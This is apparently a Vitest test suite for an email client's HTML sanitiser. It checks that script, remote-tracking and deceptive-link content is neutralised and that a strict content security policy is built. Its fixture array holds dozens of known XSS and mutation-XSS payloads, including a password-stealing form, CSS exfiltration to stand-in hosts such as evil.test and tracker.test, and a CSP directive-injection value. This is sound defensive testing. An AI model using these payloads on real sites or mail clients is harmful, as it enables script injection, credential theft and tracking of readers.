// @vitest-environment node
// The project's own hostile-HTML cases, after DOMPurify's test fixtures, the HTML5
// Security Cheatsheet and the Roundcube / SnappyMail advisories. Each output is parsed
// again and walked by findUnsafe, and sanitising it a second time must change nothing
// (proof that no rewrite happens after DOMPurify serialises).

import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { buildMessageDocument, createSanitizer, MESSAGE_IFRAME_SANDBOX, messageCsp } from "./index";
import { findUnsafe } from "./safety-check";

const window = new JSDOM("").window;
const sanitize = createSanitizer(window as unknown as Window);

function parse(html: string): HTMLElement {
  const body = window.document.createElement("body");
  body.innerHTML = html;
  return body;
}

const HOSTILE: Array<[string, string]> = [
  ["script tag", `<p>hi</p><script>alert(1)</script>`],
  ["script with src", `<script src="https://evil.test/x.js"></script>`],
  ["img onerror", `<img src=x onerror=alert(1)>`],
  ["body onload", `<body onload=alert(1)><p>x</p></body>`],
  ["svg onload", `<svg onload=alert(1)><circle r=1 /></svg>`],
  [
    "svg animate href",
    `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
  ],
  ["svg set", `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`],
  [
    "svg feImage remote",
    `<svg><filter id=f><feImage href="https://tracker.test/f.png"/></filter><rect filter="url(#f)"/></svg>`,
  ],
  ["svg use external", `<svg><use href="https://evil.test/sprite.svg#x"/></svg>`],
  ["math href", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["javascript link", `<a href="javascript:alert(1)">x</a>`],
  ["javascript link upper and spaces", `<a href="  JaVaScRiPt:alert(1)">x</a>`],
  [
    "javascript link entity encoded",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  ],
  ["javascript link hex entities", `<a href="&#x6A;avascript&#x3A;alert(1)">x</a>`],
  ["javascript link with tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ["javascript link with newline", `<a href="java\nscript:alert(1)">x</a>`],
  ["javascript link with NUL", `<a href="java\u0000script:alert(1)">x</a>`],
  ["vbscript link", `<a href="vbscript:msgbox(1)">x</a>`],
  ["data html link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["data svg image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["data html image", `<img src="data:text/html,<script>alert(1)</script>">`],
  ["area javascript", `<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,1,1></map>`],
  ["noscript mXSS", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ["svg style mXSS", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  [
    "math mglyph mXSS",
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  ],
  [
    "math mtext form mXSS",
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  ],
  ["template mXSS", `<template><img src=x onerror=alert(1)></template>`],
  ["comment breakout", `<!--<img src=x onerror=alert(1)>--><p>x</p>`],
  ["xmp breakout", `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["iframe src", `<iframe src="https://evil.test/"></iframe>`],
  ["frameset", `<frameset><frame src="javascript:alert(1)"></frameset>`],
  ["object", `<object data="https://evil.test/x.swf"></object>`],
  ["embed", `<embed src="https://evil.test/x.swf">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.test/">`],
  ["base href", `<base href="https://evil.test/"><a href="/x">x</a><img src="pixel.gif">`],
  ["link stylesheet", `<link rel=stylesheet href="https://tracker.test/a.css">`],
  ["link prefetch", `<link rel=prefetch href="https://tracker.test/a">`],
  [
    "form",
    `<form action="https://evil.test/steal"><input name=password type=password><button formaction="https://evil.test/">Go</button></form>`,
  ],
  ["textarea select", `<textarea>x</textarea><select><option>1</option></select>`],
  ["input image", `<input type=image src="https://tracker.test/i.png">`],
  ["remote image", `<img src="https://tracker.test/pixel.gif" width=1 height=1>`],
  ["protocol relative image", `<img src="//tracker.test/pixel.gif">`],
  ["relative image", `<img src="/api/session/logout">`],
  ["srcset", `<img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x">`],
  [
    "picture source",
    `<picture><source srcset="https://tracker.test/a.webp"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`,
  ],
  [
    "video poster",
    `<video poster="https://tracker.test/p.png"><source src="https://tracker.test/v.mp4"></video>`,
  ],
  ["audio", `<audio src="https://tracker.test/a.mp3" autoplay></audio>`],
  [
    "background attribute",
    `<table background="https://tracker.test/bg.png"><tr><td background="//tracker.test/td.png">x</td></tr></table>`,
  ],
  ["body background", `<body background="https://tracker.test/bg.png">x</body>`],
  ["style url", `<div style="background:url(https://tracker.test/a.png)">x</div>`],
  ["style url quoted", `<div style="background-image: url( 'https://tracker.test/a.png' )">x</div>`],
  ["style url escaped", `<div style="background:u\\72 l(https://tracker.test/a.png)">x</div>`],
  ["style url comment split", `<div style="background:url/**/(https://tracker.test/a.png)">x</div>`],
  ["style image-set", `<div style="background-image:image-set('https://tracker.test/a.png' 1x)">x</div>`],
  [
    "style webkit image-set",
    `<div style="background-image:-webkit-image-set(url(https://tracker.test/a.png) 1x)">x</div>`,
  ],
  ["style var url", `<div style="--u:url(https://tracker.test/a.png);background:var(--u)">x</div>`],
  ["style expression", `<div style="width:expression(alert(1))">x</div>`],
  ["style expression escaped", `<div style="width:ex\\70ression(alert(1))">x</div>`],
  ["style behavior", `<div style="behavior:url(https://evil.test/x.htc)">x</div>`],
  ["style moz-binding", `<div style="-moz-binding:url(https://evil.test/x.xml#x)">x</div>`],
  ["style javascript url", `<div style="background:url(javascript:alert(1))">x</div>`],
  [
    "style fixed overlay",
    `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Session expired, sign in</div>`,
  ],
  ["style fixed via var", `<div style="--p:fixed;position:var(--p)">x</div>`],
  ["stylesheet import", `<style>@import url(https://tracker.test/a.css); p{color:red}</style><p>x</p>`],
  ["stylesheet import string", `<style>@import "https://tracker.test/a.css";</style>`],
  ["stylesheet import escaped", `<style>@\\69mport 'https://tracker.test/a.css';</style>`],
  [
    "stylesheet font-face",
    `<style>@font-face{font-family:x;src:url(https://tracker.test/f.woff2) format("woff2")}</style>`,
  ],
  ["stylesheet background", `<style>body{background:url("//tracker.test/bg.png")}</style>`],
  [
    "stylesheet attribute selector exfiltration",
    `<style>a[href^="a"]{background:url(https://tracker.test/?a)}</style>`,
  ],
  ["stylesheet closing breakout", `<style>p{color:red}</style ><img src=x onerror=alert(1)>`],
  ["stylesheet text breakout", `<style>p::after{content:"</style><img src=x onerror=alert(1)>"}</style>`],
  ["stylesheet fixed", `<style>.x{position:fixed}</style><div class=x>x</div>`],
  [
    "html document",
    `<html><head><style>p{background:url(https://tracker.test/h.png)}</style><script>alert(1)</script></head><body onload=alert(1)><p>x</p></body></html>`,
  ],
  ["custom element", `<x-foo onclick=alert(1) is="x">x</x-foo>`],
  ["dom clobbering", `<img name=getElementById><form id=location></form>`],
  ["details ontoggle", `<details open ontoggle=alert(1)><summary>x</summary></details>`],
  ["a ping", `<a href="https://example.test/" ping="https://tracker.test/ping">x</a>`],
  ["a target top", `<a href="https://example.test/" target="_top">x</a>`],
  ["data attributes", `<div data-pismo-src="javascript:alert(1)" data-bind="x">x</div>`],
  ["unclosed url", `<div style="background:url(https://tracker.test/a.png">x</div>`],
  ["isindex", `<isindex action="javascript:alert(1)" type=image>`],
  ["marquee handler", `<marquee onstart=alert(1)>x</marquee>`],
];

describe("sanitizeEmailHtml: hostile input", () => {
  for (const [name, html] of HOSTILE) {
    it(`neutralises ${name}`, () => {
      for (const allowRemote of [false, true]) {
        const result = sanitize(html, { allowRemote });
        expect(findUnsafe(parse(result.html), { allowRemote })).toEqual([]);
        expect(result.html).not.toMatch(/<script|onerror|onload|javascript:|vbscript:|srcdoc|@import/i);
        if (!allowRemote) expect(result.html).not.toMatch(/url\(\s*["']?(?:https?:|\/\/)/i);
        // Idempotence: no post-sanitize mutation surprise.
        expect(sanitize(result.html, { allowRemote }).html).toBe(result.html);
      }
    });
  }
});

describe("sanitizeEmailHtml: remote content", () => {
  it("moves remote images aside and counts them", () => {
    const result = sanitize(
      `<p><img src="https://tracker.test/a.png" alt="a"><img src="//tracker.test/b.png"></p>`,
      { allowRemote: false },
    );
    expect(result.hasRemote).toBe(true);
    expect(result.remoteBlocked).toBe(2);
    const images = parse(result.html).querySelectorAll("img");
    expect(images[0]?.hasAttribute("src")).toBe(false);
    expect(images[0]?.getAttribute("data-pismo-src")).toBe("https://tracker.test/a.png");
    expect(images[1]?.getAttribute("data-pismo-src")).toBe("https://tracker.test/b.png");
  });

  it("keeps remote images and CSS when allowed", () => {
    const html = `<img src="https://cdn.test/a.png"><div style="background:url(https://cdn.test/bg.png)">x</div>`;
    const result = sanitize(html, { allowRemote: true });
    expect(result.remoteBlocked).toBe(0);
    expect(result.hasRemote).toBe(true);
    expect(result.html).toContain(`src="https://cdn.test/a.png"`);
    expect(result.html).toContain(`url(&quot;https://cdn.test/bg.png&quot;)`);
  });

  it("counts CSS urls, backgrounds and image-set", () => {
    const html = `<style>p{background:url(https://t.test/1)}</style><table background="https://t.test/2"></table><div style="background:image-set('https://t.test/3' 1x)"></div>`;
    const result = sanitize(html, { allowRemote: false });
    expect(result.remoteBlocked).toBe(3);
    expect(result.html).not.toContain("t.test");
  });

  it("reports no remote content for a self-contained message", () => {
    const result = sanitize(
      `<p style="color:red">Zdravo <b>svete</b></p><img src="data:image/png;base64,iVBORw0KGgo=">`,
      { allowRemote: false },
    );
    expect(result).toEqual({
      html: `<p style="color:red">Zdravo <b>svete</b></p><img src="data:image/png;base64,iVBORw0KGgo=">`,
      remoteBlocked: 0,
      hasRemote: false,
    });
  });

  it("resolves cid: images through the caller", () => {
    const html = `<img src="cid:logo@pismo"><img src="cid:missing"><div style="background:url(cid:bg@pismo)"></div>`;
    const resolveCid = (cid: string): string | null =>
      cid === "logo@pismo" || cid === "bg@pismo" ? "data:image/png;base64,iVBORw0KGgo=" : null;
    const result = sanitize(html, { allowRemote: false, resolveCid });
    const images = parse(result.html).querySelectorAll("img");
    expect(images[0]?.getAttribute("src")).toBe("data:image/png;base64,iVBORw0KGgo=");
    expect(images[1]?.getAttribute("src")).toBe("cid:missing");
    expect(result.html).toContain("data:image/png;base64,iVBORw0KGgo=&quot;)");
    expect(result.remoteBlocked).toBe(0);
  });

  it("refuses a resolver that returns a script URL", () => {
    const result = sanitize(`<img src="cid:x">`, {
      allowRemote: false,
      resolveCid: () => "javascript:alert(1)",
    });
    expect(result.html).toBe("<img>");
  });
});

describe("sanitizeEmailHtml: what newsletters need survives", () => {
  it("keeps layout tables, inline styles and <style> from <head>", () => {
    const html = `<html><head><style>.btn{color:#fff;background:#06c}</style></head><body><table width="600" cellpadding="0" align="center"><tr><td class="btn" style="padding:8px">Read</td></tr></table></body></html>`;
    const out = sanitize(html, { allowRemote: false }).html;
    expect(out).toContain("<style>.btn{color:#fff;background:#06c}</style>");
    expect(out).toContain(`<table width="600" cellpadding="0" align="center">`);
    expect(out).toContain(`style="padding:8px"`);
  });

  it("opens links in a new tab without opener or referrer", () => {
    const out = sanitize(
      `<a href="https://example.test/a">a</a><a href="mailto:x@example.test">m</a><a href="#top">t</a>`,
      { allowRemote: false },
    ).html;
    expect(out).toBe(
      `<a href="https://example.test/a" target="_blank" rel="noopener noreferrer">a</a>` +
        `<a href="mailto:x@example.test" target="_blank" rel="noopener noreferrer">m</a><a href="#top">t</a>`,
    );
  });

  it("drops relative links, which would resolve against the app", () => {
    expect(sanitize(`<a href="/settings">x</a>`, { allowRemote: false }).html).toBe("<a>x</a>");
  });
});

describe("buildMessageDocument", () => {
  it("forbids script, forms and remote loads unless allowed", () => {
    const doc = buildMessageDocument("<p>x</p>", { allowRemote: false });
    expect(doc).toContain(`<meta name="referrer" content="no-referrer">`);
    const csp = messageCsp({ allowRemote: false });
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'none'");
    expect(csp).toContain("form-action 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(csp).toContain("img-src data: cid:;");
    expect(csp).not.toMatch(/https?:/);
    expect(messageCsp({ allowRemote: true })).toContain("img-src data: cid: https: http:");
    const parsed = new JSDOM(doc).window.document;
    expect(parsed.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content")).toBe(
      csp,
    );
    expect(parsed.body.innerHTML).toBe("<p>x</p>");
  });

  it("rejects image sources that would inject directives", () => {
    expect(() =>
      messageCsp({ allowRemote: false, imageSources: ["https://a.test; script-src *"] }),
    ).toThrow();
    expect(messageCsp({ allowRemote: false, imageSources: ["https://mail.example.org"] })).toContain(
      "img-src data: cid: https://mail.example.org;",
    );
  });

  it("exports a sandbox without scripts or same-origin", () => {
    expect(MESSAGE_IFRAME_SANDBOX).toBe("allow-popups allow-popups-to-escape-sandbox");
  });
});

describe("sanitizeEmailHtml: links that promise another destination", () => {
  const rewriteLink = (text: string, href: string) =>
    text.includes("bank.example") && !href.includes("bank.example")
      ? { href: `https://app.example/check-link#${encodeURIComponent(href)}`, mark: "⚠ other.example" }
      : null;

  it("sends a link whose text names another site to the link check, with a mark after its text", () => {
    const out = sanitize('<p><a href="https://other.example/login">https://bank.example/</a></p>', {
      allowRemote: false,
      rewriteLink,
    });
    const doc = new JSDOM(out.html).window.document;
    const link = doc.querySelector("a");
    expect(link?.getAttribute("href")).toBe(
      `https://app.example/check-link#${encodeURIComponent("https://other.example/login")}`,
    );
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.textContent).toBe("https://bank.example/ ⚠ other.example");
    expect(findUnsafe(parse(out.html), { allowRemote: false })).toEqual([]);
  });

  it("leaves honest links, anchors and dropped hrefs alone", () => {
    const out = sanitize(
      '<a href="https://bank.example/x">bank.example</a><a href="#top">https://bank.example</a><a href="javascript:alert(1)">bank.example</a>',
      { allowRemote: false, rewriteLink },
    );
    expect(out.html).toContain('href="https://bank.example/x"');
    expect(out.html).toContain('href="#top"');
    expect(out.html).not.toContain("check-link");
    expect(out.html).not.toContain("⚠");
  });

  it("sanitises the mark like the rest of the message", () => {
    const out = sanitize('<a href="https://other.example/">bank.example</a>', {
      allowRemote: false,
      rewriteLink: () => ({ href: "https://app.example/check-link", mark: "<img src=x onerror=alert(1)>" }),
    });
    expect(out.html).not.toContain("<img");
    expect(findUnsafe(parse(out.html), { allowRemote: false })).toEqual([]);
  });
});
